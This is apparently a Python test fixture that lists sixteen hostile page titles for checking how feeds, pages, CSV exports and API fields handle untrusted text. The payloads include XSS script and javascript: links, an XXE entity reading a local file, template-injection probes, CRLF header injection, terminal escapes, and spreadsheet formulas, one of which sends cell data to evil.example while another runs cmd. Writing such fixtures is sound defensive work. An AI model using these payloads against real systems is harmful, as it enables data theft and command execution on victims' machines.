"""Sixteen titles that try to be more than text, for every feed, page, export and API field.

`text` is what a site sent and what the store holds; `seen` is what a reader may see of it: the same
letters, without invisible characters and on one line. Programs (JSON, CSV) get `text` itself.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class HostileTitle:
    """A title and what a reader sees of it."""

    name: str
    text: str
    seen: str


def _same(name: str, text: str) -> HostileTitle:
    return HostileTitle(name, text, text)


HOSTILE_TITLES = (
    _same("script", "<script>alert('Hafen')</script> Port"),
    _same("closing tags", "</title></h3></article><iframe src=javascript:alert(1)>"),
    _same("attribute", "\" onmouseover='alert(1)' x=\"Порт\""),
    _same("entities", "&lt;b&gt;fett&lt;/b&gt; &amp;amp; &#x202e; &copy"),
    _same("CDATA and comment", "]]><b>fin</b><![CDATA[ --> <!-- الميناء"),
    _same("XML declaration", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///x'>]>&e;"),
    _same("Markdown", "[puerto](javascript:alert(1)) **x** `y` ![](//evil.example/p.png) # h"),
    _same("template", "{{7*7}} ${7*7} {% x %} %(title)s {0.__class__} <%= 7*7 %>"),
    HostileTitle("bidi override", "invoice\u202efdp.exe\u202c 港口", "invoicefdp.exe 港口"),
    HostileTitle("open isolates", "\u2067\u2066\u202b" * 5 + "الميناء (2026)", "الميناء (2026)"),
    HostileTitle("terminal", "\x1b[2J\x1b]0;x\x07 Port \x1b[31mred", "[2J]0;x Port [31mred"),
    HostileTitle(
        "line breaks",
        "Port\r\nSet-Cookie: a=b\n\n\u2028# h\u2029- i",
        "Port Set-Cookie: a=b # h - i",
    ),
    HostileTitle("controls", "P\x00o\x08r\x0bt\ufeff\u200b\ufffe 2", "Por t 2"),
    _same("formula", "=HYPERLINK(\"http://evil.example/?\"&A1,\"port\")"),
    HostileTitle("hidden formula", "\t  \u3000＝cmd|' /C calc'!A0", "＝cmd|' /C calc'!A0"),
    _same("ten thousand letters", ("<i>港口</i> الميناء 'порт' \"x\" & " * 400)[:10_000].strip()),
)  # fmt: skip
